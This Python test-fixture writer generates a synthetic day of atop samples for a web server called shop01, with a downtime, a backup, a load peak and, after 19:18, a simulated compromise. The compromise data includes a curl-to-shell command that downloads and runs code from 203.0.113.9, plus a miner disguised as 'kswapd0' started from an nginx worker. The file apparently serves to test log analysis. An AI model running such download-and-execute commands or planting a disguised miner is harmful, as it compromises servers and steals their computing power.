"""A day of atop: 140 samples of a web server, as docs/report.md tells of.

The machine is down from 03:00 to 03:45. There is a backup at 02:00, load from 08:30 to
09:30, and from 19:18 on a program that a worker of the web server was made to run.
Usage: python -m tests.writers.atop_day PATH
"""

from __future__ import annotations

import sys

from tests.writers import atop

# 2026-11-21 00:00:00 UTC.
_DAY = 1795219200
_HOUR = 3600
_NUMBER_OF_SAMPLES = 144
_FIRST_BOOT_TIME = _DAY - 72 * _HOUR
_SECOND_BOOT_TIME = _DAY + 3 * _HOUR + 2700

# Hours of the day.
_DOWN = (3.1, 3.75)
_BACKUP = (1.6, 2.4)
_LOAD = (8.5, 9.5)
_INTRUSION = 19.33

# Identifier, that of the parent, user, name and command line.
_SERVICES = (
    (1, 0, 0, b"systemd", b"/sbin/init"),
    (2, 0, 0, b"kthreadd", b""),
    (400, 1, 0, b"cron", b"/usr/sbin/cron -f"),
    (600, 1, 0, b"nginx", b"nginx: master process"),
    (601, 600, 33, b"nginx", b"nginx: worker process"),
    (700, 1, 104, b"postgres", b"/usr/lib/postgresql/15/bin/postgres"),
)
_BACKUP_PROCESS = (1900, 400, 0, b"pg_dump", b"pg_dump -Fc shop -f /srv/shop.dump")
_INTRUSION_PROCESSES = (
    (2990, 601, 33, b"sh", b"sh -c curl -s http://203.0.113.9/k | sh"),
    (2991, 2990, 33, b"kswapd0", b"./kswapd0 -o pool:443"),
)


def _GetLoad(hour: float) -> float:
    """Determines how busy the processors are, as a share from 0 to 1."""
    if _LOAD[0] <= hour <= _LOAD[1]:
        return 0.95
    if hour >= _INTRUSION:
        return 0.75
    return 0.3 if _BACKUP[0] < hour < _BACKUP[1] else 0.05


def _MakeTask(
    writer: atop.AtopWriter,
    process: tuple[int, int, int, bytes, bytes],
    start_time: int,
    **values: int | bytes,
) -> dict[str, int | bytes]:
    """Makes a task that starts at seconds since January 1, 1970 UTC.

    The process is identifier, that of the parent, user, name and command line.
    """
    identifier, parent_identifier, user_identifier, name, command_line = process
    return writer.MakeTask(
        process_identifier=identifier,
        thread_group_identifier=identifier,
        parent_process_identifier=parent_identifier,
        real_user_identifier=user_identifier,
        name=name,
        command_line=command_line,
        start_time=start_time,
        **values,
    )


def _MakeTasks(
    writer: atop.AtopWriter, number: int, hour: float, time: int, boot_time: int
) -> list[dict[str, int | bytes]]:
    """Makes the tasks of a sample."""
    tasks = [_MakeTask(writer, process, boot_time) for process in _SERVICES]
    job = (2000 + number, 400, 0, b"sh", b"/bin/sh -c /usr/lib/php/sessionclean")
    values: dict[str, int | bytes] = {"state": b"E", "elapsed_time": 200}
    tasks.append(_MakeTask(writer, job, time - 300, **values))
    if _BACKUP[0] < hour < _BACKUP[1]:
        tasks.append(_MakeTask(writer, _BACKUP_PROCESS, _DAY + 2 * _HOUR))
    if hour >= _INTRUSION:
        start_time = _DAY + int(19.3 * _HOUR)
        tasks += [
            _MakeTask(writer, process, start_time, user_time=20000)
            for process in _INTRUSION_PROCESSES
        ]
    return tasks


def WriteDay() -> bytes:
    """Writes the log."""
    writer = atop.AtopWriter("2.8", utsname_node_name=b"shop01")
    boot_time = _FIRST_BOOT_TIME
    for number in range(_NUMBER_OF_SAMPLES):
        time = _DAY + (number + 1) * atop.INTERVAL
        hour = (time - _DAY) / _HOUR
        if _DOWN[0] < hour < _DOWN[1]:
            continue

        is_first = hour > _DOWN[1] and boot_time == _FIRST_BOOT_TIME
        if is_first:
            boot_time = _SECOND_BOOT_TIME
        load = _GetLoad(hour)
        system = writer.FoldSystem(
            {
                "processors": {
                    "number_of_processors": 2,
                    "all_user_time": int(atop.INTERVAL * 200 * load),
                    "all_idle_time": int(atop.INTERVAL * 200 * (1 - load)),
                },
                "memory": {"physical_memory": 1048576, "free_memory": 500000},
            }
        )
        writer.AppendSample(
            system=system,
            tasks=_MakeTasks(writer, number, hour, time, boot_time),
            sample_time=time,
            flags=int(is_first),
        )
    return writer.GetBytes()


if __name__ == "__main__":
    with open(sys.argv[1], "wb") as file_object:
        file_object.write(WriteDay())
